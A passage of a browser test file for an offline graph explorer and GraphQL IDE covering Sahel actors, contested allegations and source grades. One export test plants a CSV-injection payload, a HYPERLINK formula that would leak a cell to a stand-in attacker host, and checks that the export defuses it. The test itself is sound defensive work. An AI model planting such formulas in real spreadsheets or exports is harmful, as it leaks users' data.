import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { readmeExamples } from '../../tools/web/readme-examples';
import { startTestApp, TEST_KEYS } from '../support/app';
import { gql } from '../support/http';
import { launchBrowser, type TestBrowser } from '../support/browser';
import { useSeededApp } from '../support/seeded-app';

/**
 * The investigator's workbench in a real Chromium that may reach 127.0.0.1 only: the GraphiQL IDE
 * at /graphql and the graph explorer at /, on the seeded graph. Every test fails if a page asked
 * for anything outside the service or broke the Content-Security-Policy.
 */

/** The browser globals the page functions below use (tests compile without the DOM library). */
declare const document: {
  body: { dataset: Record<string, string | undefined> };
  querySelector(selector: string): { textContent: string | null } | null;
  querySelectorAll(selector: string): { length: number; [index: number]: CodeMirrorHost };
  addEventListener(type: 'securitypolicyviolation', listener: (event: { violatedDirective: string }) => void): void;
};
declare const location: { search: string };
declare const navigator: { clipboard: { readText(): Promise<string> } };
/** A CodeMirror 5 editor's wrapper element carries its editor (GraphiQL's editors are CodeMirror 5). */
interface CodeMirrorHost {
  CodeMirror?: { setValue(text: string): void };
}
declare const localStorage: { length: number };
declare const window: unknown;
declare function getComputedStyle(element: unknown): { borderCollapse: string };

const README = readFileSync(path.join(__dirname, '..', '..', 'README.md'), 'utf8');

/** What the drawing holds, read from cytoscape (the explorer exposes it as window.sahelGraph). */
interface Drawing {
  nodes: string[];
  edges: Array<{ id: string; classes: string[]; lineStyle: string; midMarker: string; midFill: string }>;
}

async function drawing(page: Page): Promise<Drawing> {
  return page.evaluate(() => {
    const cy = (window as unknown as { sahelGraph: import('cytoscape').Core }).sahelGraph;
    return {
      nodes: cy
        .nodes()
        .map((node) => node.id())
        .sort(),
      edges: cy.edges().map((edge) => ({
        id: edge.id(),
        classes: edge.classes(),
        lineStyle: String(edge.style('line-style')),
        midMarker: String(edge.style('mid-target-arrow-shape')),
        midFill: String(edge.style('mid-target-arrow-fill')),
      })),
    };
  });
}

/**
 * Taps a drawn element as cytoscape would on a click. Returns nothing from the page: handing back
 * the element would make Playwright serialize the whole drawing, which takes many seconds.
 */
async function tap(page: Page, id: string): Promise<void> {
  await page.evaluate((key) => {
    (window as unknown as { sahelGraph: import('cytoscape').Core }).sahelGraph.getElementById(key).emit('tap');
  }, id);
}

/** Waits until the explorer has asked the API and redrawn. */
async function settled(page: Page): Promise<void> {
  await page.waitForFunction(() => document.body.dataset.loading === 'false');
}

/** Types into the search box, waits for the suggestion for `id` and picks it with the keyboard. */
async function pick(page: Page, text: string, id: string): Promise<void> {
  await page.fill('#search', text);
  const option = page.locator(`#suggestions li[data-id="${id}"]`);
  await option.waitFor();
  while ((await option.getAttribute('aria-selected')) !== 'true') await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await page.waitForFunction((wanted) => new URLSearchParams(location.search).get('select') === wanted, id);
  await settled(page);
}

/** Ukraine found as "Kiev", then JNIM as "GSIM", and the path between them. */
async function ukraineToJnim(page: Page): Promise<void> {
  await page.goto(`${fixture.app.base}/`);
  await settled(page);
  await pick(page, 'Kiev', 'ukraine');
  await page.getByRole('button', { name: 'Path from here' }).click();
  await pick(page, 'GSIM', 'jnim');
  await page.getByRole('button', { name: 'Path to here' }).click();
  await settled(page);
  await page.locator('#path-panel .path.best .hop').first().waitFor();
}

const { fixture, ask } = useSeededApp();
let browser: TestBrowser;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});
afterEach(() => {
  // Offline means offline: no CDN, no fonts, no telemetry, and the CSP never had to step in.
  const problems = [
    ...browser.outsideRequests.map((url) => `request outside the service: ${url}`),
    ...browser.pageProblems,
  ];
  browser.outsideRequests.length = 0;
  browser.pageProblems.length = 0;
  if (problems.length > 0)
    throw new Error(`the pages did what an offline, CSP-bound page must not:\n${problems.join('\n')}`);
});

describe('the GraphQL IDE at /graphql', () => {
  it('renders GraphiQL offline with the README examples as tabs and runs the first one', async () => {
    const page = await browser.newPage();
    await page.goto(fixture.app.url);
    await page.locator('.graphiql-container').waitFor();
    const examples = readmeExamples(README);
    expect(examples.length).toBeGreaterThanOrEqual(5);
    await page.waitForFunction((count) => document.querySelectorAll('.graphiql-tab').length === count, examples.length);
    expect(await page.locator('.graphiql-query-editor').innerText()).toContain('entity(id: "aes")');
    await page.locator('.graphiql-execute-button').click();
    const result = page.locator('.result-window');
    await page.waitForFunction(() =>
      document.querySelector('.result-window')?.textContent?.includes('Alliance of Sahel States'),
    );
    expect(await result.innerText()).toMatch(/"name": "(Mali|Burkina Faso|Niger)"/);
    // The schema's docs come from introspection of this service.
    await page.getByRole('button', { name: /documentation explorer/i }).click();
    await page.locator('.graphiql-doc-explorer').getByText('Query', { exact: true }).first().waitFor();
    expect(await page.locator('a[href="/"]').innerText()).toContain('Graph explorer');
    await browser.screenshot(page, 'ide');
    await page.close();
  });
});

describe('copy as curl / fetch in the IDE', () => {
  const run = promisify(execFile);

  /** Runs a copied fetch() snippet in this Node process and returns what it printed. */
  async function runFetchSnippet(snippet: string): Promise<unknown> {
    const printed: string[] = [];
    const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor as new (
      ...args: string[]
    ) => (console: { log(text: string): void }) => Promise<void>;
    await new AsyncFunction('console', snippet)({ log: (text: string) => printed.push(text) });
    expect(printed).toHaveLength(1);
    return JSON.parse(printed[0] ?? 'null');
  }

  /**
   * Sets the query and variables editors of the tab, once GraphiQL has made them (its CodeMirror
   * editors load asynchronously): the variables editor is the first of the editor tools.
   */
  async function setEditors(page: Page, values: { query?: string; variables?: string }): Promise<void> {
    await page.waitForFunction(
      () =>
        document.querySelectorAll('.graphiql-query-editor .CodeMirror').length === 1 &&
        document.querySelectorAll('.graphiql-editor-tool .CodeMirror').length === 2,
    );
    await page.evaluate(({ query, variables }) => {
      if (query !== undefined)
        document.querySelectorAll('.graphiql-query-editor .CodeMirror')[0]?.CodeMirror?.setValue(query);
      if (variables !== undefined)
        document.querySelectorAll('.graphiql-editor-tool .CodeMirror')[0]?.CodeMirror?.setValue(variables);
    }, values);
  }

  it("copies the tab's operation, variables and key as a curl command and a fetch snippet that both get the IDE's answer", async () => {
    const locked = await startTestApp(fixture.db, { ANONYMOUS_READS: 'false' });
    try {
      await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: locked.base });
      const page = await browser.newPage();
      // The key typed in the explorer fills the IDE's headers editor for this browser session.
      await page.goto(`${locked.base}/`);
      await settled(page);
      await page.fill('#credential-value', TEST_KEYS.reader);
      await page.keyboard.press('Enter');
      await settled(page);
      await page.goto(locked.url);
      await page.locator('.graphiql-container').waitFor();
      // Named as the tab's README example ("Entity"): GraphiQL re-reads the operation name when the
      // cursor moves, which a programmatic edit does not do.
      const query = 'query Entity($id: ID!) { entity(id: $id) { id name } }';
      await setEditors(page, { query, variables: '{ "id": "aes" }' });
      await page.locator('.graphiql-execute-button').click();
      await page.waitForFunction(() =>
        /"(data|errors)"/.test(document.querySelector('.result-window')?.textContent ?? ''),
      );
      expect(await page.locator('.result-window').innerText()).toContain('Alliance of Sahel States');
      const expected = await gql(locked.url, query, { id: 'aes' }, 20_000, { 'x-api-key': TEST_KEYS.reader });
      expect(expected.body).toEqual({ data: { entity: { id: 'aes', name: 'Alliance of Sahel States' } } });

      await page.getByRole('button', { name: 'Copy as curl / fetch' }).click();
      const dialog = page.locator('dialog.ide-snippets');
      await dialog.waitFor();
      await dialog.getByRole('button', { name: 'Copy curl' }).click();
      await dialog.getByText('curl command copied to the clipboard.').waitFor();
      const curl = await page.evaluate(() => navigator.clipboard.readText());
      expect(curl).toBe(await page.locator('#snippet-curl').innerText());
      expect(curl).toContain(`-H 'x-api-key: ${TEST_KEYS.reader}'`);
      expect(curl).toContain('"operationName":"Entity"');
      const curled = await run('sh', ['-c', curl], { timeout: 20_000 });
      expect(JSON.parse(curled.stdout)).toEqual(expected.body);
      // Without the key's header the same command is refused: the key is what the snippet carries.
      const keyless = curl.replace(/ \\\n {2}-H 'x-api-key: [^']*'/, '');
      expect(keyless).not.toContain('x-api-key');
      expect(JSON.parse((await run('sh', ['-c', keyless], { timeout: 20_000 })).stdout)).toMatchObject({
        errors: [{ extensions: { code: 'UNAUTHENTICATED' } }],
      });

      await dialog.getByRole('button', { name: 'Copy fetch' }).click();
      await dialog.getByText('fetch snippet copied to the clipboard.').waitFor();
      const snippet = await page.evaluate(() => navigator.clipboard.readText());
      expect(snippet).toBe(await page.locator('#snippet-fetch').innerText());
      expect(snippet).toMatch(/^const response = await fetch\("http:\/\/127\.0\.0\.1:\d+\/graphql", \{/);
      expect(await runFetchSnippet(snippet)).toEqual(expected.body);
      await browser.screenshot(page, 'ide-copy-as-code');
      await page.close();
    } finally {
      await browser.context.clearPermissions();
      await locked.stop();
    }
  });

  it('says what is wrong instead of a snippet when the variables are not a JSON object', async () => {
    const page = await browser.newPage();
    await page.goto(fixture.app.url);
    await page.locator('.graphiql-container').waitFor();
    await setEditors(page, { variables: '[1, 2' });
    await page.getByRole('button', { name: 'Copy as curl / fetch' }).click();
    const dialog = page.locator('dialog.ide-snippets');
    expect(await dialog.locator('.ide-snippets-problem').innerText()).toBe('Variables must be a JSON object.');
    expect(await dialog.locator('pre').count()).toBe(0);
    await page.close();
  });
});

describe('the graph explorer at /', () => {
  it('finds Ukraine by "Kiev", expands it, and shows the Ukraine–JNIM path with the allegation hop marked contested and its source', async () => {
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/`);
    await settled(page);
    await page.fill('#search', 'Kiev');
    const suggestion = page.locator('#suggestions li[data-id="ukraine"]');
    await suggestion.waitFor();
    expect(await suggestion.innerText()).toMatch(/Ukraine[\s\S]*matched “Kiev”/);
    await page.keyboard.press('Enter');
    await settled(page);
    // Expanded: Ukraine's neighbours are drawn.
    const expanded = await drawing(page);
    expect(expanded.nodes).toEqual(
      expect.arrayContaining(['ukraine', 'ukrainian-intelligence', 'russia-accuses-ukrainian-intelligence']),
    );
    expect(await page.locator('#details h2').innerText()).toBe('Ukraine');

    await page.getByRole('button', { name: 'Path from here' }).click();
    await pick(page, 'GSIM', 'jnim');
    await page.getByRole('button', { name: 'Path to here' }).click();
    await settled(page);
    const best = page.locator('#path-panel .path.best');
    await best.locator('.hop').first().waitFor();
    const hops = best.locator('.hop');
    expect(await hops.count()).toBe(2);
    // The path is contested per the API, and the panel says so at the top.
    expect(await best.getAttribute('data-contested')).toBe('true');
    expect(await best.locator('.path-badge').allInnerTexts()).toEqual(['contested']);
    // Each hop reads as the API's own sentence, with its grade and source, then its evidence.
    const denial = best.locator('.hop[data-type="DENIES"]');
    expect(await denial.getAttribute('data-contested')).toBe('true');
    expect(await denial.getAttribute('data-marks')).toBe('contested claim');
    const denialText = await denial.innerText();
    expect(denialText).toMatch(
      /^Ukraine denies Russia's allegation that Ukrainian intelligence is supporting the militants\. \[fairly reliable source, denial probably made: C2; Mali Suffering from Jihadist Economic Blockade\]/,
    );
    expect(denialText).toContain('◆ contested claim (denied or disputed)');
    expect(denialText).not.toContain('◇');
    expect(denialText).toContain('Grade C2: fairly reliable source, denial probably made');
    expect(denialText).toContain('credibility 2: probably true');
    expect(await denial.locator('.sources').innerText()).toMatch(
      /Mali Suffering from Jihadist Economic Blockade[\s\S]*reliability C: fairly reliable/,
    );
    // The claim hop gives both grades: the claim's (cannot be judged) and the report's.
    const claim = best.locator('.hop[data-type="CONCERNS"]');
    expect(await claim.getAttribute('data-contested')).toBe('true');
    const claimText = await claim.innerText();
    expect(claimText).toMatch(/^Russia's allegation is assessed to concern JNIM \(denied by Ukraine\)\./);
    expect(claimText).toContain('The claim: credibility 6: truth cannot be judged');
    expect(claimText).toContain('The report that it was made: credibility 3: possibly true');

    // Drawn: the path's contested hops dashed with a filled diamond, an ordinary link solid.
    const drawn = await drawing(page);
    const hop = drawn.edges.find((edge) => edge.id === 'DENIES:ukraine->russia-accuses-ukrainian-intelligence');
    expect(hop).toMatchObject({ lineStyle: 'dashed', midMarker: 'diamond', midFill: 'filled' });
    expect(hop?.classes).toEqual(expect.arrayContaining(['marked', 'contested', 'path-best']));
    const ordinary = drawn.edges.find((edge) => edge.id === 'SUBORDINATE_TO:ukrainian-intelligence->ukraine');
    expect(ordinary).toMatchObject({ lineStyle: 'solid', midMarker: 'none' });
    // The next best paths are drawn too.
    expect(drawn.edges.some((edge) => edge.classes.includes('path-alt'))).toBe(true);
    await browser.screenshot(page, 'explorer-path');

    // The claim link, clicked (it was drawn from JNIM's neighbourhood first): the path's verdict and
    // the API's sentence are merged into it, with both grades.
    await tap(page, 'CONCERNS:russia-accuses-ukrainian-intelligence->jnim');
    const details = await page.locator('#details').innerText();
    expect(details).toContain("Russia's allegation is assessed to concern JNIM (denied by Ukraine).");
    expect(details).toContain('◆ contested claim (denied or disputed)');
    expect(details).toContain('The claim: credibility 6: truth cannot be judged');
    expect(details).toContain('The report that it was made: credibility 3: possibly true');
    await page.close();
  });

  it('hides the JNIM insurgency link with asOf before 2012, through the API argument', async () => {
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/?expand=jnim&select=jnim`);
    await settled(page);
    expect((await drawing(page)).nodes).toContain('jnim-insurgency');
    await page.fill('#as-of', '2011');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => new URLSearchParams(location.search).get('asOf') === '2011');
    await settled(page);
    const before = await drawing(page);
    expect(before.nodes).toContain('jnim');
    expect(before.nodes).not.toContain('jnim-insurgency');
    expect(before.edges.filter((edge) => edge.id.includes('jnim-insurgency'))).toEqual([]);
    expect(await page.locator('#view-list').innerText()).not.toContain('JNIM insurgency');
    await browser.screenshot(page, 'explorer-as-of-2011');

    await page.fill('#as-of', '2012');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => new URLSearchParams(location.search).get('asOf') === '2012');
    await settled(page);
    expect((await drawing(page)).nodes).toContain('jnim-insurgency');
    await page.close();
  });

  it('exports a report: the picture with title, date, filters and legend, the evidence of every link in view as CSV and as a printable page', async () => {
    // A link whose excerpt a hostile source wrote: quotes, commas, a line break and a formula.
    const hostile = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click"), said "they",\nthen left';
    const added = await gql(
      fixture.app.url,
      'mutation($r: RelationshipInput!) { addRelationship(relationship: $r) { id } }',
      {
        r: {
          type: 'AFFILIATED_WITH',
          from: 'ukrainian-intelligence',
          to: 'ukraine',
          sourceIds: ['wellbrock-mali-blockade'],
          credibility: 6,
          excerpt: hostile,
        },
      },
      20_000,
      { 'x-api-key': TEST_KEYS.editor },
    );
    expect(added.body.errors).toBeUndefined();

    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/?expand=ukraine&from=ukraine&to=jnim`);
    await settled(page);
    await page.locator('#path-panel .path.best .hop').first().waitFor();
    const title = 'Ukraine & JNIM: who says so <draft>';
    await page.fill('#export-title', title);
    const save = async (button: string) => {
      const [download] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
      return readFileSync(await download.path());
    };
    const texts = (svg: string) =>
      [...svg.matchAll(/<text[^>]*>([^<]*)<\/text>/g)].map((match) =>
        (match[1] ?? '')
          .replace(/&lt;/g, '<')
          .replace(/&gt;/g, '>')
          .replace(/&quot;/g, '"')
          .replace(/&#39;/g, "'")
          .replace(/&amp;/g, '&'),
      );

    // The SVG: real text for the title, the date, each filter and each legend entry, around the drawing.
    const svg = (await save('#export-svg')).toString('utf8');
    expect(svg).toMatch(/^<svg[\s\S]*<svg[\s\S]*<\/svg>\s*$/);
    const words = texts(svg);
    expect(words[0]).toBe(title);
    expect(words[1]).toMatch(/^Exported from sahel-graph on \d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC$/);
    expect(words).toEqual(
      expect.arrayContaining([
        'Relationship types: all but evidence links',
        'Minimum credibility: any',
        'As of: any time (no date filter)',
        'Path: Ukraine → JNIM',
        'Expanded: Ukraine',
        'Legend',
        'actor',
        'allegation',
        'reported link',
        '◇ claim (not an established fact)',
        '◆ contested claim (denied or disputed)',
        'shortest path (best-evidenced)',
      ]),
    );
    // The PNG is the same picture rasterised at twice the size: wider than the legend's minimum.
    const png = await save('#export-png');
    expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    expect(png.readUInt32BE(16)).toBeGreaterThanOrEqual(1440);

    // The CSV: one row per link in view, each with its sentence, grade(s), sources and excerpt.
    const drawn = await drawing(page);
    const csvText = (await save('#export-csv')).toString('utf8');
    const [header, ...rows] = parse(csvText, { bom: true }) as string[][];
    expect(header).toEqual([
      'Link',
      'Not an established fact',
      "Claim's grade (what the claim says)",
      "Grade (for a claim: the report's, that the claim was made)",
      'Sources (reliability)',
      'Excerpt',
      'Valid',
      'Relationship id',
    ]);
    const cell = (row: string[] | undefined, name: string) => row?.[header!.indexOf(name)] ?? '';
    expect(rows.map((row) => cell(row, 'Relationship id')).sort()).toEqual(drawn.edges.map((edge) => edge.id).sort());
    for (const row of rows) {
      expect(cell(row, 'Link')).not.toBe('');
      expect(cell(row, "Grade (for a claim: the report's, that the claim was made)")).toMatch(/^credibility [1-6]: /);
      expect(cell(row, 'Sources (reliability)')).toMatch(/, reliability [A-F]: /);
    }
    const byId = (id: string) => rows.find((row) => cell(row, 'Relationship id') === id);
    // The best path's hops first, in the API's words; the claim link with both grades.
    expect(cell(rows[0], 'Link')).toMatch(
      /^Ukraine denies Russia's allegation that Ukrainian intelligence is supporting the militants/,
    );
    const claim = byId('CONCERNS:russia-accuses-ukrainian-intelligence->jnim');
    expect(cell(claim, "Claim's grade (what the claim says)")).toBe('credibility 6: truth cannot be judged');
    expect(cell(claim, "Grade (for a claim: the report's, that the claim was made)")).toBe(
      'credibility 3: possibly true',
    );
    expect(cell(claim, 'Not an established fact')).toBe('◆ contested claim (denied or disputed)');
    expect(cell(claim, 'Sources (reliability)')).toContain('Mali Suffering from Jihadist Economic Blockade');
    // The hostile excerpt stays one cell, with its quotes, comma and line break, defused by a leading '.
    const affiliation = byId('AFFILIATED_WITH:ukrainian-intelligence->ukraine');
    expect(cell(affiliation, 'Excerpt')).toBe(`'${hostile}`);
    expect(csvText).toContain(`"'=HYPERLINK(""http://evil.invalid/?leak=""&A1,""click""), said ""they"",\nthen left"`);
    expect(rows.flat().filter((value) => /^[=+\-@\t\r]/.test(value))).toEqual([]);

    // The printable page: stands alone, styled by its own hashed stylesheet, no script.
    const html = (await save('#export-html')).toString('utf8');
    expect(html).not.toMatch(/<script/i);
    const report = await browser.newPage();
    await report.setContent(html);
    expect(await report.locator('h1').innerText()).toBe(title);
    expect(await report.locator('tbody tr').count()).toBe(rows.length);
    expect(await report.locator('.filters li').allInnerTexts()).toContain('Path: Ukraine → JNIM');
    expect(await report.locator('td.excerpt').allTextContents()).toContain(hostile);
    expect(await report.locator('table').evaluate((table) => getComputedStyle(table).borderCollapse)).toBe('collapse');
    expect(
      await report.locator('figure img').evaluate((image: { naturalWidth: number }) => image.naturalWidth),
    ).toBeGreaterThan(700);
    await browser.screenshot(report, 'explorer-evidence-page');
    await report.close();

    // A filter in force is printed as it is set.
    await page.selectOption('#min-credibility', '3');
    await page.waitForFunction(() => new URLSearchParams(location.search).get('minCredibility') === '3');
    await settled(page);
    expect(texts((await save('#export-svg')).toString('utf8'))).toContain(
      'Minimum credibility: credibility 3: possibly true, or better',
    );
    const bundle = JSON.parse((await save('#export-bundle')).toString('utf8')) as { format: string };
    expect(bundle.format).toBe('sahel-graph-bundle');
    expect(JSON.stringify(bundle)).toContain('"ukrainian-intelligence"');
    await browser.screenshot(page, 'explorer-export');
    await page.close();
  });

  it('restores a shared view from its URL: entities, selection, path and filters', async () => {
    const page = await browser.newPage();
    await ukraineToJnim(page);
    await page.selectOption('#min-credibility', '3');
    await page.waitForFunction(() => new URLSearchParams(location.search).get('minCredibility') === '3');
    await settled(page);
    // With claims graded 3 or better the best path runs through the considered ICJ action instead:
    // flagged hypothetical, its hops into that event drawn dashed with a hollow circle.
    const best = page.locator('#path-panel .path.best');
    await best.locator('.hop').first().waitFor();
    expect(await best.locator('.path-badge').allInnerTexts()).toContain('hypothetical');
    const notOccurred = best.locator('.hop[data-hypothetical="true"]');
    expect(await notOccurred.count()).toBeGreaterThan(0);
    expect(await notOccurred.first().innerText()).toContain('○ did not happen (considered/planned/threatened)');
    const hypothetical = (await drawing(page)).edges.filter(
      (edge) => edge.classes.includes('hypothetical') && edge.classes.includes('path-best'),
    );
    expect(hypothetical.length).toBeGreaterThan(0);
    expect(hypothetical[0]).toMatchObject({ lineStyle: 'dashed', midMarker: 'circle', midFill: 'hollow' });
    const shared = page.url();
    const original = { drawing: await drawing(page), path: await page.locator('#path-panel').innerText() };
    await page.close();

    const other = await browser.newPage();
    await other.goto(shared);
    await settled(other);
    await other.locator('#path-panel .path.best .hop').first().waitFor();
    const restored = await drawing(other);
    expect(restored.nodes).toEqual(original.drawing.nodes);
    expect(restored.edges.map((edge) => edge.id).sort()).toEqual(original.drawing.edges.map((edge) => edge.id).sort());
    expect(await other.locator('#path-panel').innerText()).toBe(original.path);
    expect(await other.locator('#min-credibility').inputValue()).toBe('3');
    expect(await other.locator('#path-from').innerText()).toBe('Ukraine');
    expect(await other.locator('#path-to').innerText()).toBe('JNIM');
    await browser.screenshot(other, 'explorer-shared-url');
    await other.close();
  });

  it('draws what exists of a shared view naming an entity that does not (NOT_FOUND from the API), and says which', async () => {
    const page = await browser.newPage();
    await page.goto(
      `${fixture.app.base}/?expand=jnim,no-such-entity&from=no-such-entity&to=jnim&select=no-such-entity`,
    );
    await settled(page);
    expect((await drawing(page)).nodes).toContain('jnim');
    expect(await page.locator('#status').innerText()).toContain('not found: no-such-entity');
    expect(await page.locator('#details').innerText()).toContain('No entity "no-such-entity".');
  });

  it('asks for a key where reads need one, and keeps it for the browser session', async () => {
    const locked = await startTestApp(fixture.db, { ANONYMOUS_READS: 'false' });
    try {
      const page = await browser.newPage();
      await page.goto(`${locked.base}/?expand=ukraine`);
      await settled(page);
      expect(await page.locator('#status').innerText()).toMatch(/reader role/);
      await page.fill('#credential-value', TEST_KEYS.reader);
      await page.keyboard.press('Enter');
      await settled(page);
      expect((await drawing(page)).nodes).toContain('ukrainian-intelligence');
      // Kept in sessionStorage (this browser session only), not in the URL, and used after a reload.
      expect(page.url()).not.toContain(TEST_KEYS.reader);
      expect(await page.evaluate(() => localStorage.length)).toBe(0);
      await page.reload();
      await settled(page);
      expect((await drawing(page)).nodes).toContain('ukrainian-intelligence');
      expect(await page.locator('#credential-status').innerText()).toContain('Key in use');
      // The IDE in the same session starts with the key in its headers editor, and reads with it.
      await page.goto(locked.url);
      await page.locator('.graphiql-container').waitFor();
      await page.locator('.graphiql-execute-button').click();
      await page.waitForFunction(() =>
        document.querySelector('.result-window')?.textContent?.includes('Alliance of Sahel States'),
      );
      await page.getByText('Headers', { exact: true }).click();
      expect(await page.locator('.graphiql-editor-tool').innerText()).toContain('x-api-key');
      await browser.screenshot(page, 'ide-with-key');
      await page.close();
    } finally {
      await locked.stop();
    }
  });
});

/** Each node's caption, shape and legend key, and each link's caption, width and marker, as drawn. */
async function looks(page: Page): Promise<{
  nodes: Record<string, { label: string; shape: string; legend: string; borderStyle: string }>;
  edges: Record<string, { label: string; width: number; classes: string[]; midMarker: string; midFill: string }>;
}> {
  return page.evaluate(() => {
    const cy = (window as unknown as { sahelGraph: import('cytoscape').Core }).sahelGraph;
    return {
      nodes: Object.fromEntries(
        cy.nodes().map((node) => [
          node.id(),
          {
            label: String(node.data('label')),
            shape: String(node.style('shape')),
            legend: String(node.data('legend')),
            borderStyle: String(node.style('border-style')),
          },
        ]),
      ),
      edges: Object.fromEntries(
        cy.edges().map((edge) => [
          edge.id(),
          {
            label: String(edge.data('label')),
            width: parseFloat(String(edge.style('width'))),
            classes: edge.classes(),
            midMarker: String(edge.style('mid-target-arrow-shape')),
            midFill: String(edge.style('mid-target-arrow-fill')),
          },
        ]),
      ),
    };
  });
}

/** Clicks a link where it is drawn (its midpoint on screen), as a person would, and returns the panel's text. */
async function clickLink(page: Page, id: string): Promise<string> {
  const at = await page.evaluate((key) => {
    const cy = (window as unknown as { sahelGraph: import('cytoscape').Core }).sahelGraph;
    const box = cy.container()!.getBoundingClientRect();
    const mid = cy.getElementById(key).renderedMidpoint();
    return { x: box.left + mid.x, y: box.top + mid.y };
  }, id);
  await page.mouse.click(at.x, at.y);
  return page.locator('#details').innerText();
}

describe('the picture says what the API says, and reads at a glance', () => {
  const CLAIM = 'russia-accuses-ukrainian-intelligence';

  it("gives a denied allegation's own panel both grades, labelled, and its status, and draws every link to it contested", async () => {
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/?expand=${CLAIM}&select=${CLAIM}`);
    await settled(page);
    const details = page.locator('#details');
    await details.locator('.claim-grade').waitFor();
    const text = await details.innerText();
    expect(text).toContain('Status: denied');
    expect(text).toContain('◆ contested claim (denied or disputed)');
    expect(await details.locator('.claim-grade').innerText()).toBe('The claim: credibility 6: truth cannot be judged');
    expect(await details.locator('.report-grade').innerText()).toBe(
      'The report that it was made: credibility 2: probably true',
    );
    // Never the report's grade alone, as if it were the claim's.
    const gradeLines = await details.locator('.grade').allInnerTexts();
    expect(gradeLines.filter((line) => line.startsWith('credibility'))).toEqual([]);

    // The API says the same: its claimCredibility and credibility.
    const api = await ask<{ entity: unknown }>(
      `{ entity(id: "${CLAIM}") { credibility ... on Allegation { claimCredibility status } } }`,
    );
    expect(api.entity).toEqual({ credibility: 2, claimCredibility: 6, status: 'DENIED' });

    // Every link to it (who alleges, denies, whom it accuses, what it concerns) drawn contested,
    // with a filled diamond, and listed so; the allegation itself has a dashed border.
    const drawn = await looks(page);
    const links = Object.entries(drawn.edges).filter(([id]) => id.includes(CLAIM));
    expect(links.map(([id]) => id.split(':')[0]).sort()).toEqual(['ACCUSES', 'ALLEGES', 'CONCERNS', 'DENIES']);
    for (const [, edge] of links) {
      expect(edge.classes).toEqual(expect.arrayContaining(['marked', 'contested']));
      expect(edge).toMatchObject({ midMarker: 'diamond', midFill: 'filled' });
      expect(edge.label).toMatch(/◆$/);
    }
    expect(drawn.nodes[CLAIM]?.borderStyle).toBe('dashed');
    await page.locator('#in-view summary').click();
    const listed = page.locator(`#view-list li[data-key="ALLEGES:russia->${CLAIM}"]`);
    expect(await listed.getAttribute('data-marks')).toBe('contested claim');
    expect(await listed.innerText()).toContain('◆ contested claim (denied or disputed)');
    // The claim link weighs by the claim's grade (6): drawn thinner than the report of it (2).
    expect(drawn.edges[`CONCERNS:${CLAIM}->jnim`]!.width).toBeLessThan(drawn.edges[`ALLEGES:russia->${CLAIM}`]!.width);
    await browser.screenshot(page, 'explorer-denied-allegation');
    await page.close();
  });

  it('draws the links to the considered ICJ action hypothetical, and says every role in words', async () => {
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/?expand=aes-icj-legal-action,malian-airstrikes`);
    await settled(page);
    const drawn = await looks(page);
    const icj = Object.entries(drawn.edges).filter(([id]) => id.includes('aes-icj-legal-action'));
    expect(icj.length).toBeGreaterThanOrEqual(4);
    for (const [, edge] of icj) {
      expect(edge.classes).toContain('hypothetical');
      expect(edge).toMatchObject({ midMarker: 'circle', midFill: 'hollow' });
    }
    expect(drawn.nodes['aes-icj-legal-action']?.borderStyle).toBe('dashed');
    // Roles, not PARTICIPATED_IN: on the line, in the panel and in the list.
    expect(drawn.edges['PARTICIPATED_IN:jnim->malian-airstrikes#TARGET']?.label).toBe('was a target of');
    expect(drawn.edges['PARTICIPATED_IN:ukraine->aes-icj-legal-action#TARGET']?.label).toBe('would be a target of ○');
    expect(Object.values(drawn.edges).filter((edge) => /PARTICIPATED_IN/.test(edge.label))).toEqual([]);
    await tap(page, 'PARTICIPATED_IN:jnim->malian-airstrikes#TARGET');
    const details = page.locator('#details');
    expect(await details.locator('.sentence').innerText()).toBe(
      'JNIM was a target of the airstrikes in response to the blockade',
    );
    expect(await details.locator('.role').innerText()).toBe('Role: target');
    await tap(page, 'PARTICIPATED_IN:ukraine->aes-icj-legal-action#TARGET');
    expect(await details.innerText()).toContain('○ did not happen (considered/planned/threatened)');
    expect(await details.locator('.sentence').innerText()).toBe(
      'Ukraine would be a target of the legal action at the ICJ against France and Ukraine (considered, not carried out)',
    );
    await page.locator('#in-view summary').click();
    const list = await page.locator('#view-list .edge-list').innerText();
    expect(list).toContain('JNIM was a target of the airstrikes in response to the blockade');
    expect(list).not.toContain('PARTICIPATED_IN');
    await browser.screenshot(page, 'explorer-hypothetical-roles');
    await page.close();
  });

  it('draws parallel links apart: clicking each of the blockade–Kayes links opens that link', async () => {
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/?expand=jnim-economic-blockade`);
    await settled(page);
    const disrupts = 'DISRUPTS:jnim-economic-blockade->kayes';
    const occurred = 'OCCURRED_IN:jnim-economic-blockade->kayes';
    // The other entities of the neighbourhood start at random places and one may lie across a
    // link's midpoint: set them aside and zoom to the two links, so the click tests only how the
    // two parallel links are drawn, the same on every run.
    await page.evaluate(
      (ids) => {
        const cy = (window as unknown as { sahelGraph: import('cytoscape').Core }).sahelGraph;
        const pair = cy.getElementById(ids[0]).union(cy.getElementById(ids[1]));
        const kept = pair.union(pair.connectedNodes());
        cy.elements().difference(kept).style('display', 'none');
        cy.fit(kept, 80);
      },
      [disrupts, occurred],
    );
    const midpoints = await page.evaluate(
      (ids) => {
        const cy = (window as unknown as { sahelGraph: import('cytoscape').Core }).sahelGraph;
        return ids.map((id) => cy.getElementById(id).renderedMidpoint());
      },
      [disrupts, occurred],
    );
    const [a, b] = midpoints as [{ x: number; y: number }, { x: number; y: number }];
